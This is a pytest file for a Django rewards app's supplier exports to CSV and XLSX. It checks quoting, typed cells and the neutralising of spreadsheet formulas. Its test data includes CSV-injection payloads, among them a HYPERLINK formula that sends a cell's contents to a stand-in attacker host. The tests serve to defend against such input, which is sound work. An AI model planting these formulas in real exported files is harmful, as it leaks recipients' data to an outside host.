import csv
import io
import zipfile
from datetime import datetime
from xml.etree import ElementTree

import pytest
from django.utils import timezone

from loyalty.services import ledger
from rewards import exports, services
from rewards.constants import OrderStatus, PaidBy, RewardKind
from tests.loyalty.factories import ProgramFactory
from tests.partners.factories import MemberFactory, ProgramManagerFactory
from tests.rewards.factories import ADDRESS, CodeRewardFactory, MerchandiseFactory, RewardFactory

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
WHEN = timezone.make_aware(datetime(2026, 3, 9, 14, 5))


def row(**overrides) -> tuple:
    values = {
        "order": 7,
        "date": WHEN,
        "sku": "MUG-1",
        "reward": "Mug",
        "quantity": 2,
        "recipient": "Ana Kovač",
        "street": "Hauptstr. 5",
        "postcode": "01067",
        "city": "Dresden",
        "country": "Germany",
        "phone": "+49 351 1",
        "email": "ana@dealer.example",
        "partner": "Dealer Ltd",
    }
    return tuple({**values, **overrides}.values())


def read_xlsx(data: bytes) -> tuple[list[str], list[list[tuple[str | None, str]]], str]:
    """(shared strings, rows of (cell type, raw value), workbook.xml) of a one-sheet workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        assert workbook.testzip() is None
        strings = ["".join(node.itertext()) for node in ElementTree.fromstring(workbook.read("xl/sharedStrings.xml"))]
        sheet = ElementTree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
        book = workbook.read("xl/workbook.xml").decode()
    rows = [
        [(cell.get("t"), cell.findtext(f"{MAIN}v")) for cell in xml_row.iter(f"{MAIN}c")]
        for xml_row in sheet.iter(f"{MAIN}row")
    ]
    return strings, rows, book


def test_csv_has_a_bom_a_header_and_one_line_per_row():
    text = "".join(exports.csv_stream([row(), row(order=8, quantity=1, phone="")]))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        list(exports.SUPPLIER_COLUMNS),
        ["7", "2026-03-09 14:05", "MUG-1", "Mug", "2", "Ana Kovač", "Hauptstr. 5", "01067", "Dresden", "Germany",
         "'+49 351 1", "ana@dealer.example", "Dealer Ltd"],
        ["8", "2026-03-09 14:05", "MUG-1", "Mug", "1", "Ana Kovač", "Hauptstr. 5", "01067", "Dresden", "Germany",
         "", "ana@dealer.example", "Dealer Ltd"],
    ]  # fmt: skip


def test_csv_quotes_commas_quotes_and_line_breaks_and_neutralises_formulas():
    tricky = row(recipient='Ben "B" Ó', street="Line 1,\nLine 2", reward="=HYPERLINK(1)")
    text = "".join(exports.csv_stream([tricky]))
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1]
    assert (parsed[3], parsed[5], parsed[6]) == ("'=HYPERLINK(1)", 'Ben "B" Ó', "Line 1,\nLine 2")


def test_csv_address_fields_never_run_as_formulas_and_numbers_stay_numbers():
    address = {
        "recipient": '=HYPERLINK("http://evil.example/?"&B2,"Open")',
        "street": "+SUM(1,1)",
        "city": "@SUM(1)",
        "postcode": "-2+3",
        "country": "\t=1",
        "phone": "\r=1",
    }
    text = "".join(exports.csv_stream([row(**address, quantity=-1)]))
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1]
    assert parsed[4] == "-1"
    assert parsed[5:11] == [
        "'" + address[key] for key in ("recipient", "street", "postcode", "city", "country", "phone")
    ]


def test_csv_of_no_rows_is_the_header_alone():
    assert "".join(exports.csv_stream([])) == "\ufeff" + ",".join(exports.SUPPLIER_COLUMNS) + "\r\n"


def test_xlsx_has_the_sheet_the_header_and_typed_cells():
    strings, rows, book = read_xlsx(exports.xlsx_bytes([row(), row(order=8)]))
    assert '<sheet name="Supplier file" sheetId="1"' in book
    assert len(rows) == 3
    assert [strings[int(value)] for _type, value in rows[0]] == list(exports.SUPPLIER_COLUMNS)
    first = rows[1]
    assert first[0] == (None, "7")  # the order number is a number
    assert first[1][0] is None and float(first[1][1]) == pytest.approx(46090.586805555555)  # a date cell
    assert first[4] == (None, "2")  # quantity
    assert strings[int(first[7][1])] == "01067"  # a postcode stays text with its leading zero
    assert strings[int(first[10][1])] == "+49 351 1"
    assert [cell_type for cell_type, _value in first] == [None, None] + ["s"] * 2 + [None] + ["s"] * 8


def test_xlsx_writes_formulas_as_text_and_survives_control_characters():
    strings, rows, _book = read_xlsx(exports.xlsx_bytes([row(reward="=1+1", recipient="Bell\x07 Ltd\x00")]))
    assert strings[int(rows[1][3][1])] == "=1+1"
    assert all(cell_type != "str" for cell_type, _value in rows[1])  # no formula cells
    assert strings[int(rows[1][5][1])] == "Bell_x0007_ Ltd_x0000_"  # escaped by xlsxwriter, the XML stays valid


def test_xlsx_marks_formula_like_address_text_as_text_and_keeps_its_value():
    data = exports.xlsx_bytes([row(street="+SUM(1,1)")])
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        sheet = ElementTree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(workbook.read("xl/styles.xml"))
    strings, rows, _book = read_xlsx(data)
    cells = list(list(sheet.iter(f"{MAIN}row"))[1].iter(f"{MAIN}c"))
    quote_prefix = [xf.get("quotePrefix") for xf in styles.find(f"{MAIN}cellXfs")]
    assert strings[int(rows[1][6][1])] == "+SUM(1,1)"
    assert [quote_prefix[int(cell.get("s", 0))] for cell in cells[5:11]] == [None, "1", None, None, None, "1"]


def test_xlsx_of_no_rows_is_the_header_alone():
    _strings, rows, _book = read_xlsx(exports.xlsx_bytes([]))
    assert len(rows) == 1


@pytest.mark.django_db
def test_supplier_lines_are_the_lines_that_ship_in_order():
    program = ProgramFactory(order_approval_threshold=100_000)
    mug = MerchandiseFactory(program=program, name="Mug", sku="MUG-1")
    lamp = MerchandiseFactory(program=program, name="Lamp", sku="LAMP-1")
    card = CodeRewardFactory(program=program, codes=2)
    seminar = RewardFactory(program=program, kind=RewardKind.SESSION)
    orders = []
    for index in range(2):
        person = MemberFactory(user__email=f"m{index}@x.example", partner__name=f"Partner {index}")
        ledger.earn(account=ledger.member_account(program=program, member=person), points=5000, key=f"s{index}")
        orders.append(
            services.order_place(
                member=person,
                program=program,
                items=[(lamp, 1), (mug, 3), (card, 1), (seminar, 1)],
                paid_by=PaidBy.MEMBER,
                checkout_key=f"x{index}",
                address=ADDRESS,
            )
        )
    services.order_transition(order=orders[1], to=OrderStatus.FULFILLED, actor=ProgramManagerFactory())

    rows = list(exports.supplier_rows(exports.supplier_lines([orders[1].pk, orders[0].pk])))

    # An order's lines are stored in the order of their rewards (the mug was created first).
    assert [(r[0], r[2], r[4], r[11], r[12]) for r in rows] == [
        (orders[0].pk, "MUG-1", 3, "m0@x.example", "Partner 0"),
        (orders[0].pk, "LAMP-1", 1, "m0@x.example", "Partner 0"),
        (orders[1].pk, "MUG-1", 3, "m1@x.example", "Partner 1"),
        (orders[1].pk, "LAMP-1", 1, "m1@x.example", "Partner 1"),
    ]
    assert rows[0][1] == timezone.localtime(orders[0].created_at)
    assert rows[0][5:11] == ("Ana Kovač", "Hauptstr. 5", "10115", "Berlin", "Germany", "")
